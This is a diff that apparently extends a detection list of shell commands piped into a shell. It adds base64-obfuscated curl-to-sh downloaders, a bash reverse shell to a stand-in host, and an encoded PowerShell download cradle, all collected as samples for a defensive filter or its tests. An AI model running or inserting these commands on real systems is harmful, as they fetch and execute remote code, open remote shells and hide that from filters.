@@ -176,6 +176,11 @@ PIPED_INTO_A_SHELL = [
     "curl -s x.example/i | ba\\sh",
     'curl -s x.example/i | "ba"sh',
     "curl -s x.example/i | s\\h",
+    # a long blob decoded and run, a shell on a socket, an encoded PowerShell command (also found)
+    'eval "$(echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvcyB8IHNo | base64 -d)"',
+    'sh -c "$(printf %s Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvcyB8IHNo | base64 --decode)"',
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
 ]
 
 DOWNLOAD_MADE_EXECUTABLE = [
